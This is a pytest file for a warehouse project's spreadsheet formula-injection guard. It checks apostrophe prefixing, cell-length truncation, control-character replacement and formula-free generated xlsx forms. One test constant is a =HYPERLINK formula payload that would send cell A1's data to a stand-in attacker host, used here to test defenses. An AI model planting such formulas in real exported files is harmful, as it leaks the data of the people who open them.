"""Every spreadsheet the warehouse writes opens as text: no formula from data, no cell cut silently (issue #16)."""

from __future__ import annotations

import zipfile

import pytest
from openpyxl import load_workbook

from warehouse.formula_guard import EXCEL_CELL_LIMIT, FORMULA_START, excel_cell, no_formula
from warehouse.raw.contract import FORM_REFERENCE_COLUMNS
from warehouse.template import Indicative, Previous, build_template

HYPERLINK = '=HYPERLINK("http://aanvaller.example/?q="&A1;"klik hier")'


@pytest.mark.parametrize("text", [HYPERLINK, "+31 6 1234", "-1", "@SOM(A1)", "\t=1", "\r=1", "=1+1"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert no_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Meting 2026", "x=1", " =1", "'=1", "2026", "é=1"])
def test_other_text_is_unchanged(text):
    assert no_formula(text) == text


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@A1", "\tx", "\rx", "＝1", "＋1", "－1", "＠A1", "tekst", "'=1", ""]
)
def test_the_polars_pattern_and_the_python_rule_agree(text):
    """app/exports/tables.py applies FORMULA_START in a polars expression; the session log and the form use
    no_formula: one rule, so every file the product writes guards the same starts."""
    import polars as pl

    by_pattern = pl.Series([text]).str.contains(FORMULA_START)[0]
    assert by_pattern == (no_formula(text) != text)


def test_excel_cell_keeps_short_text_and_guards_it():
    assert excel_cell("Meting 2026") == ("Meting 2026", False)
    assert excel_cell("=1+1") == ("'=1+1", False)
    whole = "a" * EXCEL_CELL_LIMIT
    assert excel_cell(whole) == (whole, False)


@pytest.mark.parametrize("text", ["a" * 40_000, "=" + "a" * (EXCEL_CELL_LIMIT - 1), "😀" * 20_000])
def test_excel_cell_cuts_long_text_with_a_visible_note(text):
    cell, was_cut = excel_cell(text)
    assert was_cut
    assert len(cell.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT  # Excel counts UTF-16 units
    assert cell.endswith("[ingekort: een Excel-cel bevat hoogstens 32.767 tekens]")
    assert no_formula(text)[:100] == cell[:100]


def test_excel_cell_shows_characters_excel_cannot_store():
    """XML 1.0 (and so .xlsx) cannot hold most control characters: they are shown, not a crash or a silent gap."""
    cell, was_cut = excel_cell("a\x00b\x1bc\td")
    assert (cell, was_cut) == ("a\ufffdb\ufffdc\td", False)


# --- The next measurement's form (make template JAAR=…, the Scoringssessie download) ------------------------


def _prefilled(tmp_path, justification: str, note: str, label: str = "Meting 2026"):
    cell = ("digitalisering", "opbouw")
    path = build_template(
        tmp_path / "formulier.xlsx",
        year=2026,
        label=label,
        indicative={cell: Indicative(3, note, 5, 2, 4, 3.0, "sessie ABC123 van 2026-03-02")},
        previous=Previous(2025, "Nulmeting", {cell: (3, justification)}),
    )
    workbook = load_workbook(path)  # formulas as written, not their results
    scores = workbook["scores"]
    header = [c.value for c in scores[1]]
    row = next(r for r in scores.iter_rows(min_row=2) if (r[1].value, r[2].value) == cell)
    return path, workbook, {name: c for name, c in zip(header, row, strict=True)}


def test_prefilled_form_never_carries_a_formula(tmp_path):
    """The probe: a CSV justification and an agreed note starting with =HYPERLINK( came back as live formulas."""
    path, workbook, row = _prefilled(tmp_path, HYPERLINK, HYPERLINK, label="=1+1")
    assert row["vorige_onderbouwing"].value == "'" + HYPERLINK
    assert row["indicatief_toelichting"].value == f"'{HYPERLINK} (sessie ABC123 van 2026-03-02)"
    assert workbook["meting"]["B2"].value == "'=1+1"
    formulas = [c.coordinate for s in workbook for r in s.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_prefilled_form_cuts_a_long_text_with_a_note(tmp_path):
    _, _, row = _prefilled(tmp_path, "onderbouwing " * 4_000, "toelichting " * 4_000)
    for column in ("vorige_onderbouwing", "indicatief_toelichting"):
        assert column in FORM_REFERENCE_COLUMNS
        value = row[column].value
        assert len(value) <= EXCEL_CELL_LIMIT and value.endswith("32.767 tekens]"), column


def test_prefilled_form_survives_control_characters(tmp_path):
    _, _, row = _prefilled(tmp_path, "regel\x0bnog een", "noot\x00")
    assert row["vorige_onderbouwing"].value == "regel\ufffdnog een"
